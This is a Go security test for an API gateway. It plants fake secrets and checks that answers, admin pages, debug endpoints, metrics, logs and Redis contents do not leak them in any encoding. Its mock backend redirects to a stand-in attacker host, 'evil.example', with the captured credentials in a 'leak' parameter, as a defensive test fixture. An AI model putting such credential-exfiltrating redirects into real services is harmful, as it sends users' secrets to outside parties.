package app_test

import (
	"bytes"
	"crypto/sha256"
	"encoding/base64"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"io"
	"maps"
	"net/http"
	"net/url"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/redis/go-redis/v9"

	"headgate/dispatch/target"
	"headgate/gateway"
	"headgate/internal/testenv"
)

// planted are secrets that only this run knows, by where they stand. They hold what JSON,
// URLs and forms write in several ways.
var planted = map[string]string{
	"ATTACK_BEARER": "planted-bearer-aaaa", "ATTACK_BASIC": "planted:basic/bbbb", "ATTACK_HEADER": "planted<header>&cccc",
	"ATTACK_QUERY": "planted query+dddd=", "ATTACK_STEP": "planted-step-eeee", "ATTACK_JWT": "planted-jwt-key-ffff-of-at-least-32-bytes",
	"HEADGATE_ADMIN_TOKEN": "planted-admin-gggg", "HEADGATE_REDIS_PASSWORD": redisPassword,
}

// Secrets that clients and backends bring along, and that have no place in what is kept.
const (
	clientKey = "planted-client-key-hhhh"
	wrongKey  = "planted-wrong-key-iiii"
	signature = "planted-signature-jjjj"
	userinfo  = "planted-userinfo-kkkk"
)

const secretRoutes = `
auth:
  partners: {api_key: {keys: [{id: acme, sha256: "CLIENTKEY", tenant: acme, scopes: [write]}]}}
  mobile: {jwt: {issuer: https://id.example.com, audience: headgate, key: {env: ATTACK_JWT}, algorithms: [HS256], tenant: "${{ .claims.org }}"}}
targets:
  bearer: {url: "URL", auth: {bearer: {env: ATTACK_BEARER}}, post: "/${{ .payload.do }}", retry: RETRY, RESULT}
  basic: {url: "URL", auth: {basic: {user: 'Acme\integration', password: {env: ATTACK_BASIC}}}, post: "/${{ .payload.do }}", retry: RETRY, RESULT}
  header: {url: "URL", auth: {header: {name: X-Secret, value: {env: ATTACK_HEADER}}}, post: "/${{ .payload.do }}", retry: RETRY, RESULT}
  query: {url: "URL", auth: {query: {name: key, value: {env: ATTACK_QUERY}}}, post: "/${{ .payload.do }}", retry: RETRY, RESULT}
  upload:
    url: URL
    allow_hosts: [uploads.example.com]
    auth: {bearer: {env: ATTACK_BEARER}}
    retry: RETRY
    steps:
      - {name: announce, post: "/signed-${{ .payload.do }}", auth: {bearer: {env: ATTACK_STEP}}, save: {to: "${{ .response.body.to }}", job: "${{ .response.body.echo }}"}}
      - {name: put, put: "${{ .saved.to }}", json: {}}
routes:
  - name: records
    match: POST /records/:id
    auth: {any: [mobile, partners], scopes: [write]}
    targets: {bearer: , basic: , header: , query: , upload: }
`

// echoing answers with everything that it was sent, wherever an answer can hold it.
func echoing(w http.ResponseWriter, req *http.Request, own string) {
	var all strings.Builder
	fmt.Fprintln(&all, req.URL.String())
	user, password, _ := req.BasicAuth()
	fmt.Fprintln(&all, user, password, req.URL.Query().Get("key"))
	for _, name := range slices.Sorted(maps.Keys(req.Header)) {
		if name != "Body" {
			fmt.Fprintln(&all, name, req.Header[name])
		}
	}
	line := strings.ReplaceAll(all.String(), "\n", " | ")
	w.Header().Set("X-Echo", line)
	what, signed := strings.CutPrefix(req.URL.Path, "/signed-")
	what = strings.TrimPrefix(what, "/")
	answer := map[string]any{"echo": line, "message": line, line: []string{line}}
	status := map[string]int{"reject": 422, "auth": 401, "moved": 302, "dead": 500, "plain": 400}[what]
	if status == 0 || signed {
		status = 200
	}
	w.Header().Set("Location", "https://evil.example/?"+url.Values{"leak": {line}}.Encode())
	if status == 302 {
		w.Header().Set("Location", "https://"+userinfo+":x@evil.example/?"+url.Values{"leak": {line}}.Encode())
	}
	if signed {
		answer["to"] = own + "/" + what + "?signature=" + signature
	}
	body, _ := json.Marshal(answer)
	if what == "plain" && !signed {
		w.Header().Set("Content-Type", "text/plain")
		body = []byte(line)
	} else {
		w.Header().Set("Content-Type", "application/json")
	}
	w.WriteHeader(status)
	_, _ = w.Write(body)
}

// Everything that a run leaves behind, or shows to anybody, is searched for the secrets
// that it knew: answers to clients, every page of the admin listener, metrics, the log
// at its most talkative, previews, the configuration, all of Redis with asynq's tasks.
// The same with whole processes and commands: testdata/script/secrets-not-leaked.txtar.
func TestAttackSecretsLeftBehind(t *testing.T) {
	for name, value := range planted {
		t.Setenv(name, value)
	}
	var backend *seenBy
	backend = serve(t, "127.0.0.1:0", func(w http.ResponseWriter, req *http.Request) { echoing(w, req, backend.URL) })
	sum := sha256.Sum256([]byte(clientKey))
	const result = `result: {body: "${{ .response.body }}", head: "${{ .response.headers }}"}`
	routes := strings.NewReplacer("URL", backend.URL, "CLIENTKEY", hex.EncodeToString(sum[:]), "RESULT", result,
		"RETRY", "{attempts: 2, first: 1ms, max: 2ms, on: [401]}").Replace(secretRoutes)
	r := attacked(t, "tracking: {retention: 1h}\ntelemetry: {log: {level: debug}}\n", routes, nil)
	left := &evidence{t: t, texts: map[string]string{}}
	claims := map[string]any{"sub": "alice", "org": "acme", "scope": "write"}
	token, err := r.Table().Authenticators()["mobile"].(interface {
		Sign(claims map[string]any, ttl time.Duration) (string, error)
	}).Sign(claims, time.Hour)
	if err != nil {
		t.Fatal(err)
	}
	kinds := []string{"ok", "reject", "auth", "moved", "dead", "plain"}
	ids := make([]string, len(kinds))
	for i, kind := range kinds {
		credentials := []string{"X-Api-Key", clientKey, "Authorization", ""}
		if i%2 == 0 {
			credentials = []string{"Authorization", "Bearer " + token, "Cookie", "session=" + wrongKey}
		}
		text := left.ask(r, http.MethodPost, "/records/7", fmt.Sprintf(`{"do":%q}`, kind), http.StatusAccepted, append(credentials, "Idempotency-Key", kind)...)
		var accepted struct {
			ID string `json:"tracking_id"`
		}
		if err := json.Unmarshal([]byte(text), &accepted); err != nil {
			t.Fatal(err)
		}
		ids[i] = accepted.ID
		left.add("redis under way "+kind, dump(t, r.redis.Client(t)))
	}
	for i, kind := range kinds {
		who := []string{"X-Api-Key", clientKey, "Authorization", ""}
		if i%2 == 0 {
			who = []string{"Authorization", "Bearer " + token}
		}
		testenv.Eventually(t, 20*time.Second, func() bool {
			var view gateway.TrackingView
			text := left.ask(r, http.MethodGet, "/tracking/"+ids[i], "", http.StatusOK, append(who, "Prefer", "wait=5")...)
			return json.Unmarshal([]byte(text), &view) == nil && view.Status != "in_progress"
		}, "the end of "+kind)
	}
	// Refused credentials, and those of other places at the wrong door.
	for name, header := range map[string][]string{
		"no such key": {"X-Api-Key", wrongKey, "Authorization", ""}, "no token": {"Authorization", "Bearer " + wrongKey},
		"basic": {"Authorization", "Basic " + base64.StdEncoding.EncodeToString([]byte("u:"+wrongKey))},
	} {
		left.add("refused "+name, left.ask(r, http.MethodPost, "/records/7?key="+wrongKey, `{}`, http.StatusUnauthorized, header...))
	}
	left.ask(r, http.MethodPost, "/records/7", `{"do": 41}`, http.StatusAccepted, "X-Api-Key", clientKey, "Authorization", "")
	left.admin(r, ids)
	for name, plan := range r.Table().Plans() {
		v, err := plan.Preview(target.Input{Payload: []byte(`{"do":"ok"}`)})
		if err != nil {
			t.Fatal(err)
		}
		left.add("preview of "+name, fmt.Sprintf("%+v", v))
		left.add("plan of "+name, string(plan.Source)+fmt.Sprintf("%+v", plan))
	}
	left.add("configuration", fmt.Sprintf("%s %+v %#v", r.Config(), r.Config(), *r.Config()))
	left.add("redis", dump(t, r.redis.Client(t)))
	r.log.mu.Lock()
	left.add("log", r.log.text.String())
	r.log.mu.Unlock()

	// They were there to be leaked: the backend saw each of its own.
	seen := ""
	for _, req := range backend.requests() {
		user, password, _ := req.BasicAuth()
		seen += fmt.Sprintln(req.URL.Query(), user, password, req.Header)
	}
	for _, name := range []string{"ATTACK_BEARER", "ATTACK_BASIC", "ATTACK_HEADER", "ATTACK_QUERY", "ATTACK_STEP"} {
		if !strings.Contains(seen, planted[name]) {
			t.Errorf("%s was never sent", name)
		}
	}
	if strings.Contains(seen, "hhhh") || strings.Contains(seen, "iiii") || strings.Contains(seen, token) {
		t.Error("a client's credentials were sent on")
	}
	left.search(token)
}

// evidence is what a run left behind, by where.
type evidence struct {
	t     *testing.T
	mu    sync.Mutex
	texts map[string]string
}

func (e *evidence) add(where, text string) {
	e.mu.Lock()
	defer e.mu.Unlock()
	e.texts[where] += text + "\n"
}

// ask sends a request of a client, and keeps the whole answer.
func (e *evidence) ask(r *attackRig, method, path, body string, want int, header ...string) string {
	e.t.Helper()
	req, err := http.NewRequestWithContext(e.t.Context(), method, "http://"+r.Addr()+path, strings.NewReader(body))
	if err != nil {
		e.t.Fatal(err)
	}
	req.Header.Set("Content-Type", "application/json")
	for i := 0; i+1 < len(header); i += 2 {
		req.Header.Set(header[i], header[i+1])
	}
	return e.send(r, req, want)
}

func (e *evidence) send(r *attackRig, req *http.Request, want int) string {
	e.t.Helper()
	resp, err := r.client.Do(req)
	if err != nil {
		e.t.Fatal(err)
	}
	defer func() { _ = resp.Body.Close() }()
	text, err := io.ReadAll(resp.Body)
	if err != nil || (want != 0 && resp.StatusCode != want) {
		e.t.Errorf("%s %s: %d %s %v", req.Method, req.URL.Path, resp.StatusCode, text, err)
	}
	e.add("answer to "+req.Method+" "+req.URL.Path, fmt.Sprint(resp.Header)+string(text))
	return string(text)
}

// admin reads every page of the second listener, and knocks with wrong tokens.
func (e *evidence) admin(r *attackRig, ids []string) {
	e.t.Helper()
	pages := []string{"/", "/livez", "/readyz", "/readyz?verbose", "/metrics", "/asynqmon/", "/asynqmon/api/queues", "/asynqmon/api/servers",
		"/asynqmon/api/redis_info", "/deadletters", "/debug/pprof/", "/debug/pprof/goroutine?debug=2", "/debug/pprof/cmdline"}
	for _, name := range []string{"bearer", "basic", "header", "query", "upload"} {
		for _, lane := range []string{name, name + ".resume"} {
			for _, state := range []string{"pending", "active", "scheduled", "retry", "archived", "completed"} {
				pages = append(pages, "/asynqmon/api/queues/"+lane+"/"+state+"_tasks")
			}
		}
		for _, id := range ids {
			pages = append(pages, "/deadletters/"+id+"/"+name)
		}
	}
	for _, page := range pages {
		for _, token := range []string{planted["HEADGATE_ADMIN_TOKEN"], wrongKey} {
			req, err := http.NewRequestWithContext(e.t.Context(), http.MethodGet, "http://"+r.AdminAddr()+page, nil)
			if err != nil {
				e.t.Fatal(err)
			}
			req.Header.Set("Authorization", "Bearer "+token)
			e.send(r, req, 0)
		}
	}
	form := strings.NewReader(url.Values{"token": {wrongKey}}.Encode())
	req, err := http.NewRequestWithContext(e.t.Context(), http.MethodPost, "http://"+r.AdminAddr()+"/login", form)
	if err != nil {
		e.t.Fatal(err)
	}
	req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
	e.send(r, req, http.StatusUnauthorized)
}

// search looks for every secret, in every way in which it may be written.
func (e *evidence) search(token string) {
	secrets := maps.Clone(planted)
	secrets["client key"], secrets["wrong key"], secrets["signature"], secrets["userinfo"] = clientKey, wrongKey, signature, userinfo
	secrets["token"], secrets["token's signature"] = token, token[strings.LastIndexByte(token, '.')+1:]
	for name, secret := range secrets {
		quoted, _ := json.Marshal(secret)
		ways := []string{
			secret, url.QueryEscape(secret), url.PathEscape(secret), strings.Trim(string(quoted), `"`),
			base64.StdEncoding.EncodeToString([]byte(secret)), base64.StdEncoding.EncodeToString([]byte(`Acme\integration:` + secret)), hex.EncodeToString([]byte(secret)),
		}
		for where, text := range e.texts {
			if name == "signature" && strings.HasPrefix(where, "redis under way") {
				continue // the address of the next step is in the record until there is none
			}
			for _, way := range ways {
				if i := strings.Index(text, way); i >= 0 {
					e.t.Errorf("%s is in %s: …%s…", name, where, text[max(0, i-120):min(len(text), i+len(way)+40)])
					break
				}
			}
		}
	}
}

// dump gives every key of Redis with its value.
func dump(t *testing.T, rdb *redis.Client) string {
	t.Helper()
	var out bytes.Buffer
	ctx := t.Context()
	keys := rdb.Scan(ctx, 0, "*", 1000).Iterator()
	for keys.Next(ctx) {
		key := keys.Val()
		kind, err := rdb.Type(ctx, key).Result()
		var value any
		switch kind {
		case "string":
			value, err = rdb.Get(ctx, key).Result()
		case "hash":
			value, err = rdb.HGetAll(ctx, key).Result()
		case "list":
			value, err = rdb.LRange(ctx, key, 0, -1).Result()
		case "set":
			value, err = rdb.SMembers(ctx, key).Result()
		case "zset":
			value, err = rdb.ZRange(ctx, key, 0, -1).Result()
		case "none": // it ended meanwhile
		default:
			t.Errorf("%s is a %s: what is in it was not searched", key, kind)
		}
		if err != nil && err != redis.Nil {
			t.Fatal(err)
		}
		fmt.Fprintln(&out, key, value)
	}
	if err := keys.Err(); err != nil {
		t.Fatal(err)
	}
	return out.String()
}
